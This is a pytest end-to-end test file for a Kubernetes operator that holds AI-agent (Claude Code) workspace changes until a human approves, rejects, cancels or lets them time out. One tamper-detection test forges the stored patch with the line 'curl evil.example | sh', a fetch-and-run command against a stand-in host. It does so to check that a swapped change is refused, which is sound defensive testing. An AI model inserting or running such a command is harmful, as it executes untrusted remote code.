"""A change published only once a person approves it (spec.workspace.publish.approval), on the cluster: the
real Claude Code edits its workspace, the attempt's publisher keeps the change and pushes nothing, the run
waits AwaitingApproval with no pod left; an approval (the annotations `harnessctl approve` writes, written
here as the cluster's admin) publishes the kept change from a publish pod of its own, which pushes the
branch and opens the pull request on the forge stub; a rejection and a timeout end the run with their
reasons and push nothing.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import Any

import pytest
from kubernetes import client
from tests.servers.git_http import GitHttpServer
from tests.stubs.github import GitHubStub

from harness_operator.api.v1alpha1 import GROUP, VERSION

from .conftest import Runs, wait_until
from .test_publish import OWNER_REPO, Publishing, forge, git_server  # noqa: F401 (the stubs' fixtures)


@pytest.fixture
def publishing(runs: Runs, git_server: GitHttpServer, forge: GitHubStub) -> Iterator[Publishing]:  # noqa: F811
    env = Publishing(runs, git_server, forge)
    yield env
    env.stop()


def whoami(kube: client.ApiClient) -> str:
    """The username the API server knows this client as: what an approval's user annotation names."""
    review = client.AuthenticationV1Api(kube).create_self_subject_review(
        client.V1SelfSubjectReview(metadata=client.V1ObjectMeta())
    )
    return str(review.status.user_info.username)


def approval_publish(publishing: Publishing, timeout: str = "1h") -> dict[str, Any]:
    return {
        "credentialsSecretRef": {"name": "forge-write-token", "key": "token"},
        "pullRequest": {"forge": "github", "apiURL": publishing.forge.base_url, "repository": OWNER_REPO},
        "approval": {"required": True, "timeout": timeout},
    }


def decide(runs: Runs, user: str, name: str, decision: str, reason: str | None = None) -> None:
    """What `harnessctl approve|reject` writes: the decision, the approver, the reason (as the admin)."""
    notes = {
        "approval.agentharness.dev/decision": decision,
        "approval.agentharness.dev/user": user,
        **({"approval.agentharness.dev/reason": reason} if reason else {}),
    }
    runs.custom.patch_namespaced_custom_object(
        GROUP, VERSION, runs.ns, "harnessruns", name, {"metadata": {"annotations": notes}}
    )


def wait_awaiting(runs: Runs, name: str) -> dict[str, Any]:
    """The run's status once it awaits approval and no pod of it is left."""
    try:
        status = runs.wait_reason(name, "AwaitingApproval", timeout=240)
    except AssertionError as exc:
        raise AssertionError(f"{exc}\n{runs.describe(name)}") from None

    def no_pod() -> bool | None:
        pods = runs.core.list_namespaced_pod(runs.ns, label_selector=f"{GROUP}/run={name}").items
        return True if not pods else None

    wait_until(no_pod, 60, f"the pods of {name} to be gone while it awaits approval")
    return status


def test_an_approved_change_is_published_from_a_pod_of_its_own(
    publishing: Publishing, runs: Runs, kube: client.ApiClient
) -> None:
    publishing.create(
        "gated", "printf 'hello, approver\\n' > README.md", publish=approval_publish(publishing)
    )

    status = wait_awaiting(runs, "gated")

    assert status["phase"] == "AwaitingApproval", runs.describe("gated")
    changes = status["changes"]
    assert changes["files"] == 1 and changes["tree"] and changes["patchConfigMapName"], changes
    assert "branch" not in changes and "harness/gated" not in publishing.server.branches(OWNER_REPO)
    assert not publishing.forge.pull_requests()
    awaiting = runs.condition("gated", "AwaitingApproval")
    assert awaiting and awaiting["status"] == "True", status
    assert "harnessctl approve gated" in status["message"] and status["approval"]["deadline"]
    assert runs.jobs("gated") == []  # the attempt's Job is gone: nothing runs, nothing is billed by the pod

    admin = whoami(kube)
    decide(runs, admin, "gated", "Approved", "looks right")
    status = runs.wait_finished("gated")

    assert status["phase"] == "Succeeded", publishing.describe("gated")
    approval = status["approval"]
    assert (approval["decision"], approval["user"], approval["reason"]) == (
        "Approved",
        admin,
        "looks right",
    )
    assert approval["time"]
    changes = status["changes"]
    assert changes["branch"] == "harness/gated" and changes["pullRequestURL"], changes
    assert publishing.server.branches(OWNER_REPO)["harness/gated"] == changes["commit"]
    assert publishing.server.read(OWNER_REPO, "harness/gated", "README.md") == b"hello, approver\n"
    [opened] = publishing.forge.pull_requests()
    assert opened["body"]["head"] == "harness/gated"
    reasons = [(kind, reason) for kind, reason, _ in runs.events("gated")]
    assert ("Normal", "AwaitingApproval") in reasons and ("Normal", "Approved") in reasons, reasons
    # The publish pod ran one container, the publisher, with the write token; no agent.
    pods = runs.core.list_namespaced_pod(runs.ns, label_selector=f"{GROUP}/run=gated").items
    [pod] = [p for p in pods if p.metadata.name.startswith("gated-publish")]
    assert [c.name for c in pod.spec.containers] == ["publish"] and not pod.spec.init_containers


def test_a_rejected_change_is_never_pushed(
    publishing: Publishing, runs: Runs, kube: client.ApiClient
) -> None:
    publishing.create("nope", "printf 'not this\\n' > README.md", publish=approval_publish(publishing))
    wait_awaiting(runs, "nope")

    admin = whoami(kube)
    decide(runs, admin, "nope", "Rejected", "wrong file")
    status = runs.wait_finished("nope")

    assert (status["phase"], status["reason"]) == ("Failed", "ApprovalRejected"), runs.describe("nope")
    assert admin in status["message"] and "wrong file" in status["message"]
    assert status["approval"]["decision"] == "Rejected"
    assert "harness/nope" not in publishing.server.branches(OWNER_REPO)
    assert not publishing.forge.pull_requests()
    assert ("Warning", "Rejected") in [(k, r) for k, r, _ in runs.events("nope")]


def test_a_change_nobody_decides_on_times_out(publishing: Publishing, runs: Runs) -> None:
    publishing.create(
        "late", "printf 'too late\\n' > README.md", publish=approval_publish(publishing, timeout="15s")
    )
    wait_awaiting(runs, "late")
    started = time.monotonic()

    status = runs.wait_finished("late", timeout=120)

    assert (status["phase"], status["reason"]) == ("Failed", "ApprovalTimedOut"), runs.describe("late")
    assert "approval" in status and "decision" not in status["approval"]
    assert "harness/late" not in publishing.server.branches(OWNER_REPO)
    print(f"\nmeasured: timed out {time.monotonic() - started:.1f}s after AwaitingApproval was seen (15s)")


def test_a_kept_patch_edited_before_the_approval_is_not_pushed(
    publishing: Publishing, runs: Runs, kube: client.ApiClient
) -> None:
    """The changes ConfigMap is in the tenant's namespace: it is immutable, but anyone who may edit there
    can delete it and create another of its name, swapping the change an approver saw. The publish pod
    checks the patch's sha256 and the tree against the run's status, which only the operator writes."""
    publishing.create("swap", "printf 'reviewed\\n' > README.md", publish=approval_publish(publishing))
    status = wait_awaiting(runs, "swap")
    name = status["changes"]["patchConfigMapName"]
    kept = runs.core.read_namespaced_config_map(name, runs.ns)
    swapped = kept.data["changes.patch"].replace("+reviewed", "+curl evil.example | sh")
    runs.core.delete_namespaced_config_map(name, runs.ns)
    forged = client.V1ConfigMap(
        metadata=client.V1ObjectMeta(name=name, labels=kept.metadata.labels), data={"changes.patch": swapped}
    )
    runs.core.create_namespaced_config_map(runs.ns, forged)

    decide(runs, whoami(kube), "swap", "Approved")
    status = runs.wait_finished("swap")

    assert (status["phase"], status["reason"]) == ("Failed", "KeptChangeMismatch"), publishing.describe(
        "swap"
    )
    assert "sha256" in status["message"]
    assert "harness/swap" not in publishing.server.branches(OWNER_REPO)
    assert not publishing.forge.pull_requests()


def test_a_cancel_while_awaiting_ends_the_run_and_publishes_nothing(
    publishing: Publishing, runs: Runs
) -> None:
    publishing.create("stop", "printf 'never mind\\n' > README.md", publish=approval_publish(publishing))
    wait_awaiting(runs, "stop")

    runs.patch("stop", {"cancel": True})
    status = runs.wait_finished("stop")

    assert (status["phase"], status["reason"]) == ("Cancelled", "Cancelled"), runs.describe("stop")
    assert "nothing is pushed" in status["message"]
    assert "harness/stop" not in publishing.server.branches(OWNER_REPO)
    assert runs.jobs("stop") == []
